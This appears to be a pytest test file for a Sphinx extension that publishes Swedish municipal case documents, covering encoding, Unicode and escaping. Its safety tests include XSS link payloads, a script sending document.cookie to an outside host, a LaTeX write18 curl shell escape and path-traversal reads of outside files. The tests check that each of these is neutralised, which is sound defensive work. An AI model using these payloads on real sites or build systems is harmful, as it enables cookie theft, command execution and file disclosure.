"""Bad input as it arrives from other programs and other people: safety,
Unicode, escapes and what docutils itself reports (issue 13).

The bad projects that give one warning are in ``test_validation.CASES``;
these tests check what else must hold for them: what is published, and
what is not.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from urllib.parse import unquote

import pytest
from sphinx.testing.util import SphinxTestApp

from sphinx_kommun.testing import latexmk, line_of, pdf_text, warning_lines

from .conftest import append, edit, html_text


@pytest.mark.parametrize("builder", ["html", "latex"])
def test_docutils_info_messages_are_not_published(
    builder: str,
    project_copy: Callable[[str], Path],
    build: Callable[..., SphinxTestApp],
) -> None:
    """``topic``, ``line-block`` and ``epigraph`` have no Swedish name in
    docutils: its INFO message about the English fallback is no part of the
    page, nor of a quote of the section (the remissammanställning)."""
    app = build(project_copy("bad-system-messages"), builder)
    assert warning_lines(app) == []
    written = "".join(
        path.read_text(encoding="utf-8")
        for path in app.outdir.glob("*.html" if builder == "html" else "*.tex")
    )
    assert "System Message" not in written
    assert "Using English fallback" not in written
    assert str(app.srcdir) not in written
    if builder == "html":
        # the page and the quote both show the topic
        text = html_text(app.outdir / "index.html")
        assert text.count("Förslaget kostar mer än det ger.") == 2


def test_backslash_escapes_print_as_written_in_html_and_pdf(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    """``\\*`` and ``\\\\`` in content, a title and an option parsed as inline
    text: no ``kommun.latex`` warning, and the character in the PDF."""
    src = project_copy("bad-escapes")
    written = [
        "Förvaltningen ser *inget* behov av förslaget (se C:\\Handlingar\\2020).",
        "att motionen avslås, *bara* i den delen",
        "Ärendet *i korthet*",
    ]
    html = build(src)
    assert warning_lines(html) == []
    text = html_text(html.outdir / "index.html")
    latex = build(src, "latex", builddir=src / "_build_latex")
    assert warning_lines(latex) == []
    pdf = " ".join(pdf_text(latexmk(latex.outdir, "ks-2020-1.tex")).split())
    for printed in (text, pdf):
        assert all(sentence in printed for sentence in written), printed
        # the yttrande and its quote in the remissammanställning
        assert printed.count(written[0]) == 2


def test_text_right_after_the_options_is_kept(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    """A heading written without a blank line after the options is the
    start of the content: the section is there, and quoted."""
    app = build(project_copy("bad-options-without-blank-line"))
    assert len(warning_lines(app)) == 1
    text = html_text(app.outdir / "index.html")
    assert "Synpunkter och förslag Förvaltningen ser inget behov" in text
    assert text.count("Förvaltningen ser inget behov av förslaget.") == 2
    # the options before it are read
    assert "1 mars 2020" in text


def test_a_paragraph_right_after_the_options_of_a_directive_without_argument(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    src = project_copy("case")
    append(
        src / "annat.rst",
        "\n.. beslut::\n   :organ: Kommunstyrelsen\n   :datum: 2020-05-01\n"
        "   :utfall: avslag\n   Beslutet var enhälligt.\n   Ingen reserverade sig.\n\n"
        "   Justeras senare.\n",
    )
    app = build(src)
    line = line_of(src / "annat.rst", "Beslutet var enhälligt.")
    assert warning_lines(app) == [
        f"annat.rst:{line}: WARNING: raden 'Beslutet var enhälligt.' efter "
        "alternativen saknar en tom rad före sig; den läses som början på texten "
        "[kommun.option]"
    ]
    text = html_text(app.outdir / "annat.html")
    assert "Beslutet var enhälligt. Ingen reserverade sig. Justeras senare." in text


def test_a_tab_indented_option_is_its_own_option(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    app = build(project_copy("bad-tab-indented-option"))
    assert len(warning_lines(app)) == 1
    text = html_text(app.outdir / "index.html")
    assert ":handlaggare:" not in text
    assert "Handläggare: Per Persson" in text
    assert "Socialförvaltningens tjänsteutlåtande" in text


ENCODING_WARNING = (
    "index.rst:5: WARNING: filen är inte sparad som UTF-8 (rad 5 är den första "
    "som inte är det); den läses som Windows-1252 – spara den som UTF-8 "
    "[kommun.encoding]"
)


def test_a_file_not_in_utf8_is_read_as_windows_1252_with_a_warning(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    src = project_copy("bad-encoding")
    app = build(src)
    assert warning_lines(app) == [ENCODING_WARNING]
    # nothing lost: the letters are the ones written
    text = html_text(app.outdir / "index.html")
    assert "Förvaltningen ser inget behov av förslaget." in text
    assert "Socialnämnden" in text
    suppressed = build(
        src, confoverrides={"suppress_warnings": ["kommun.encoding"]}, freshenv=True
    )
    assert warning_lines(suppressed) == []
    index = src / "index.rst"
    index.write_text(index.read_text(encoding="cp1252"), encoding="utf-8")
    assert warning_lines(build(src, freshenv=True)) == []


def test_an_included_file_not_in_utf8_is_warned_at_that_file(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    src = project_copy("case")
    (src / "bakgrund.txt").write_bytes(
        "Bakgrund\n\nStadsdelsnämnderna har yttrat sig.\n".encode("cp1252")
    )
    append(src / "annat.rst", "\n.. include:: bakgrund.txt\n")
    app = build(src, confoverrides={"exclude_patterns": ["bakgrund.txt"]})
    assert warning_lines(app) == [
        "bakgrund.txt:3: WARNING: filen är inte sparad som UTF-8 (rad 3 är den "
        "första som inte är det); den läses som Windows-1252 – spara den som UTF-8 "
        "[kommun.encoding]"
    ]
    assert "Stadsdelsnämnderna har yttrat sig." in html_text(app.outdir / "annat.html")


def test_a_byte_order_mark_before_a_directive_is_ignored(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    """A U+FEFF (from a file joined to another) before ``.. remiss::``: the
    remiss is a remiss, and the compilation quotes the answer to it."""
    app = build(project_copy("bad-byte-order-mark"))
    assert warning_lines(app) == []
    text = html_text(app.outdir / "index.html")
    assert ".. remiss::" not in text
    assert "Ärendet har remitterats till socialnämnden." in text
    assert "Socialnämnden behandlade ärendet vid sitt sammanträde den 20 mars" in text


def test_a_decomposed_name_is_the_same_name(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    """``Socialnämnden`` pasted from macOS (``a`` + combining diaeresis)
    answers the remiss to Socialnämnden, and its anchor is the usual one."""
    app = build(project_copy("bad-decomposed-name"))
    assert warning_lines(app) == []
    page = (app.outdir / "index.html").read_text(encoding="utf-8")
    assert 'id="ks-2020-1-yttrande-socialnämnden"' in page
    assert "a\u0308" not in page


@pytest.mark.parametrize(
    "char", ["\u2028", "\u2029", "\x85", "\x1c", "\x1d", "\x1e", "\x0b", "\x0c"]
)
def test_a_line_break_only_python_sees_becomes_a_space(char: str) -> None:
    from sphinx_kommun.reading.source import normalise_source

    text = f"rad ett{char}fortfarande rad ett\nrad två\n"
    assert len(text.splitlines()) == 3
    assert normalise_source(text) == "rad ett fortfarande rad ett\nrad två\n"


def test_source_text_is_composed_and_loses_its_byte_order_marks() -> None:
    from sphinx_kommun.reading.source import normalise_source

    assert normalise_source("\ufeffSocialna\u0308mnden\n\ufeff.. remiss::\n") == (
        "Socialnämnden\n.. remiss::\n"
    )


# -- safety -------------------------------------------------------------------

QUOTED = "   Insatserna bör bygga på stadsdelens egna förutsättningar.\n"


def links_in(path: Path) -> list[str]:
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
    body = soup.find("div", class_="body") or soup
    # (docutils cloaks the @ of an e-mail address as %40)
    return [unquote(a["href"]) for a in body.find_all("a", href=True)]


@pytest.mark.parametrize(
    ("uri", "scheme"),
    [
        ("javascript:alert(1)", "javascript"),
        ("JavaScript:alert(1)", "javascript"),
        ("data:text/html;base64,PHNjcmlwdD4=", "data"),
        ("vbscript:msgbox(1)", "vbscript"),
        ("file:///etc/passwd", "file"),
        ("ms-excel:ofe|u|https://example.org/x.xls", "ms-excel"),
    ],
)
def test_a_link_with_an_unsafe_scheme_is_text_on_the_page_and_in_the_quote(
    uri: str,
    scheme: str,
    project_copy: Callable[[str], Path],
    build: Callable[..., SphinxTestApp],
) -> None:
    src = project_copy("case")
    path = src / "yttrande-kungsholmen.rst"
    edit(path, QUOTED, f"   Insatserna bör bygga på `förutsättningar <{uri}>`_.\n")
    app = build(src)
    assert warning_lines(app) == [
        f"yttrande-kungsholmen.rst:{line_of(path, 'Insatserna')}: WARNING: länken "
        f"till '{uri}' skrivs ut som text: adresser som börjar med '{scheme}:' "
        "tillåts inte (se kommun_url_schemes) [kommun.unsafe]"
    ]
    for page in ("yttrande-kungsholmen.html", "utlatande.html"):
        assert not any(scheme in href.lower() for href in links_in(app.outdir / page))
        assert "Insatserna bör bygga på förutsättningar." in html_text(
            app.outdir / page
        )


@pytest.mark.parametrize(
    "uri",
    [
        "https://start.stockholm/",
        "http://example.org/a:b",
        "mailto:registrator@stockholm.se",
        "tel:+46850829000",
        "ftp://ftp.example.org/underlag.pdf",
        "annat.html",
        "underlag/bilaga:1.pdf",
    ],
)
def test_a_link_with_a_safe_scheme_or_a_relative_one_stays_a_link(
    uri: str,
    project_copy: Callable[[str], Path],
    build: Callable[..., SphinxTestApp],
) -> None:
    src = project_copy("case")
    edit(
        src / "yttrande-kungsholmen.rst",
        QUOTED,
        f"   Insatserna bör bygga på `förutsättningar <{uri}>`_.\n",
    )
    app = build(src)
    assert warning_lines(app) == []
    for page in ("yttrande-kungsholmen.html", "utlatande.html"):
        assert uri in links_in(app.outdir / page)


@pytest.mark.parametrize(
    "written",
    [
        ":download:`underlaget <javascript://%0aalert(1)>`",
        ".. image:: data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
        ".. image:: https://start.stockholm/logga.png\n   :target: javascript:alert(1)",
    ],
)
def test_a_download_or_image_with_an_unsafe_scheme_is_left_out(
    written: str,
    project_copy: Callable[[str], Path],
    build: Callable[..., SphinxTestApp],
) -> None:
    src = project_copy("case")
    append(src / "annat.rst", f"\n{written}\n\nTexten efter står kvar.\n")
    app = build(src)
    lines = warning_lines(app)
    at = line_of(src / "annat.rst", written.splitlines()[0])
    assert len(lines) == 1 and lines[0].startswith(f"annat.rst:{at}: WARNING: ")
    assert lines[0].endswith("tillåts inte (se kommun_url_schemes) [kommun.unsafe]")
    page = (app.outdir / "annat.html").read_text(encoding="utf-8")
    assert "javascript:" not in page and "data:image" not in page
    assert "Texten efter står kvar." in html_text(app.outdir / "annat.html")


def test_a_project_may_allow_another_scheme(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    src = project_copy("bad-unsafe-link")
    uri = "javascript:alert(document.cookie)"
    assert uri not in links_in(build(src).outdir / "index.html")
    app = build(
        src,
        confoverrides={"kommun_url_schemes": ["https", "javascript"]},
        freshenv=True,
    )
    assert warning_lines(app) == []
    assert uri in links_in(app.outdir / "index.html")


def test_a_link_in_an_option_is_text_and_the_option_is_kept(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    app = build(project_copy("bad-unsafe-link"))
    assert not any("javascript" in href for href in links_in(app.outdir / "index.html"))
    assert "Bilaga Remissunderlag" in html_text(app.outdir / "index.html")


SECRET = "HEMLIGT-INNEHÅLL"
#: a one-pixel GIF
GIF = (
    b"GIF89a\x01\x00\x01\x00\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"
    b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)


@pytest.mark.parametrize(
    ("block", "what"),
    [
        (".. include:: {path}", "'.. include::'"),
        (".. literalinclude:: {path}", "'.. literalinclude::'"),
        (".. csv-table:: Tabell\n   :file: {path}", "'.. csv-table::'"),
        (".. image:: {image}", "'.. image::'"),
        (".. figure:: {image}\n\n   Bildtext som står kvar.", "'.. figure::'"),
        ("Se :download:`filen <{path}>`.", ":download:"),
        # a substitution: its definition and its use, one warning
        (".. |bild| image:: {image}\n\nSe |bild| och |bild|.", "'.. image::'"),
    ],
)
@pytest.mark.parametrize("how", ["relative", "absolute", "link"])
def test_a_file_outside_the_project_is_left_out(
    block: str,
    what: str,
    how: str,
    project_copy: Callable[[str], Path],
    build: Callable[..., SphinxTestApp],
) -> None:
    src = project_copy("case")
    outside = src.parent / "utanfor"
    outside.mkdir()
    (outside / "hemligt.txt").write_text(f"{SECRET},1\n", encoding="utf-8")
    (outside / "hemligt.gif").write_bytes(GIF)
    if how == "relative":
        path, image = "../utanfor/hemligt.txt", "../utanfor/hemligt.gif"
    elif how == "absolute":
        # Sphinx reads an absolute path in the source directory, except
        # csv-table's, which is read as it is when it exists
        path, image = str(outside / "hemligt.txt"), str(outside / "hemligt.gif")
    else:
        (src / "genvag").symlink_to(outside)
        path, image = "genvag/hemligt.txt", "genvag/hemligt.gif"
    written = block.format(path=path, image=image)
    append(src / "annat.rst", f"\n{written}\n\nTexten efter står kvar.\n")
    app = build(src)
    lines = warning_lines(app)
    if how == "absolute" and "csv-table" not in block:
        # not outside: the source directory's /utanfor/…, which does not exist
        assert all("kommun.unsafe" not in line for line in lines), lines
        return
    shown = image if "image" in block or "figure" in block else path
    at = line_of(src / "annat.rst", written.splitlines()[0])
    assert lines == [
        f"annat.rst:{at}: WARNING: {what} hänvisar till '{shown}' utanför "
        "projektets källmapp; det tas inte med (kommun_allow_outside_files = True "
        "tillåter det) [kommun.unsafe]"
    ]
    text = html_text(app.outdir / "annat.html")
    assert SECRET not in text
    assert "Texten efter står kvar." in text
    if "figure" in block:
        assert "Bildtext som står kvar." in text
    copied = [p.name for p in app.outdir.rglob("hemligt.*")]
    assert copied == []


def test_a_project_may_allow_files_outside(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    src = project_copy("case")
    (src.parent / "gemensamt.txt").write_text(f"{SECRET}\n", encoding="utf-8")
    append(src / "annat.rst", "\n.. include:: ../gemensamt.txt\n")
    app = build(src, confoverrides={"kommun_allow_outside_files": True})
    assert warning_lines(app) == []
    assert SECRET in html_text(app.outdir / "annat.html")


def test_raw_html_is_printed_as_text(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    app = build(project_copy("bad-unsafe-raw"))
    page = (app.outdir / "index.html").read_text(encoding="utf-8")
    assert "<script>fetch" not in page
    text = html_text(app.outdir / "index.html")
    assert "<script>fetch('https://example.org/?' + document.cookie)</script>" in text
    assert "Förvaltningen har inget att tillägga." in text


def test_raw_latex_is_printed_as_text(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    src = project_copy("bad-unsafe-raw")
    edit(src / "index.rst", ".. raw:: html", ".. raw:: latex")
    edit(
        src / "index.rst",
        "<script>fetch('https://example.org/?' + document.cookie)</script>",
        "\\immediate\\write18{curl https://example.org}",
    )
    app = build(src, "latex")
    assert len(warning_lines(app)) == 1
    tex = (app.outdir / "ks-2020-1.tex").read_text(encoding="utf-8")
    assert "\\immediate\\write18" not in tex
    assert "write18" in tex


def test_a_role_derived_from_raw_is_printed_as_text(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    src = project_copy("case")
    append(
        src / "annat.rst",
        '\n.. role:: html(raw)\n   :format: html\n\nSe :html:`<b onclick="x()">här</b>`.\n',
    )
    app = build(src)
    at = line_of(src / "annat.rst", "Se :html:")
    assert warning_lines(app) == [
        f"annat.rst:{at}: WARNING: :html: skrivs ut som text, inte som HTML eller "
        "LaTeX (kommun_allow_raw = True tillåter det) [kommun.unsafe]"
    ]
    page = (app.outdir / "annat.html").read_text(encoding="utf-8")
    assert '<b onclick="x()">' not in page
    assert 'Se <b onclick="x()">här</b>.' in html_text(app.outdir / "annat.html")


def test_a_project_may_allow_raw_but_not_a_raw_file_outside(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    src = project_copy("bad-unsafe-raw")
    (src.parent / "sidfot.html").write_text(f"<p>{SECRET}</p>\n", encoding="utf-8")
    append(src / "index.rst", "\n.. raw:: html\n   :file: ../sidfot.html\n")
    app = build(src, confoverrides={"kommun_allow_raw": True})
    assert warning_lines(app) == [
        f"index.rst:{line_of(src / 'index.rst', ':file: ../sidfot.html') - 1}: "
        "WARNING: '.. raw:: html' hänvisar till '../sidfot.html' utanför "
        "projektets källmapp; det tas inte med (kommun_allow_outside_files = True "
        "tillåter det) [kommun.unsafe]"
    ]
    page = (app.outdir / "index.html").read_text(encoding="utf-8")
    assert "<script>fetch" in page
    assert SECRET not in page


# -- characters pdflatex cannot set ----------------------------------------------

EMOJI_WARNING = (
    "'🏠' (U+1F3E0) kan inte sättas med pdflatex och skrivs som '?' i PDF:en "
    "(latex_engine = 'xelatex' eller 'lualatex' klarar dem) [kommun.latex]"
)


def test_an_emoji_in_a_title_is_warned_once_where_it_is_written(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    """The ärende's rubrik is shown in its header, in the yttrande's title
    and in a needtable: one warning, at the arende directive."""
    src = project_copy("bad-emoji-title")
    app = build(src, "latex")
    at = line_of(src / "index.rst", ".. arende::")
    assert warning_lines(app) == [f"index.rst:{at}: WARNING: {EMOJI_WARNING}"]
    tex = (app.outdir / "ks-2020-1.tex").read_text(encoding="utf-8")
    assert "🏠" not in tex
    assert tex.count("Provärende ?") >= 3


@pytest.mark.parametrize("pdfs", ["all", "sammantraden"])
def test_an_emoji_in_a_quoted_section_is_warned_once_at_the_quote(
    pdfs: str,
    project_copy: Callable[[str], Path],
    build: Callable[..., SphinxTestApp],
) -> None:
    """Quoted in the remissammanställning, printed in the ärende's and the
    meeting's PDF: one warning, at the yttrande's line, also when only the
    meeting's PDF (which has the quote, not the yttrande) is built."""
    src = project_copy("case")
    path = src / "yttrande-kungsholmen.rst"
    edit(
        path,
        QUOTED,
        "   Insatserna bör bygga på 🏠 stadsdelens egna förutsättningar.\n",
    )
    app = build(src, "latex", confoverrides={"kommun_pdf_documents": pdfs})
    assert warning_lines(app) == [
        f"yttrande-kungsholmen.rst:{line_of(path, 'Insatserna')}: WARNING: "
        + EMOJI_WARNING
    ]


def test_pdfchars_keeps_no_state_on_the_builder(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    app = build(project_copy("bad-emoji-title"), "latex")
    assert not [key for key in vars(app.builder) if key.startswith("_kommun")]


def test_only_combining_marks_are_composed() -> None:
    """NFC would make the ohm sign (which pdflatex sets) a Greek omega
    (which it does not): only letters with combining marks are composed."""
    from sphinx_kommun.reading.source import normalise_source

    assert normalise_source("10 \u2126, A\u030angström\n") == "10 \u2126, Ångström\n"


def test_a_literalinclude_diff_against_a_file_outside_is_left_out(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    src = project_copy("case")
    (src / "ny.txt").write_text("ny rad\n", encoding="utf-8")
    secret = src.parent / "hemligt.txt"
    secret.write_text(f"{SECRET}\n", encoding="utf-8")
    append(src / "annat.rst", f"\n.. literalinclude:: ny.txt\n   :diff: {secret}\n")
    app = build(src)
    at = line_of(src / "annat.rst", ".. literalinclude:: ny.txt")
    assert warning_lines(app) == [
        f"annat.rst:{at}: WARNING: '.. literalinclude::' hänvisar till '{secret}' "
        "utanför projektets källmapp; det tas inte med (kommun_allow_outside_files "
        "= True tillåter det) [kommun.unsafe]"
    ]
    assert SECRET not in (app.outdir / "annat.html").read_text(encoding="utf-8")


def test_a_link_in_a_substitution_is_warned_once(
    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
) -> None:
    src = project_copy("case")
    append(
        src / "annat.rst",
        "\n.. |lank| replace:: `klicka <javascript:alert(1)>`__\n\nSe |lank| och |lank|.\n",
    )
    app = build(src)
    lines = warning_lines(app)
    assert len(lines) == 1 and "[kommun.unsafe]" in lines[0], lines
    assert "javascript:" not in (app.outdir / "annat.html").read_text(encoding="utf-8")
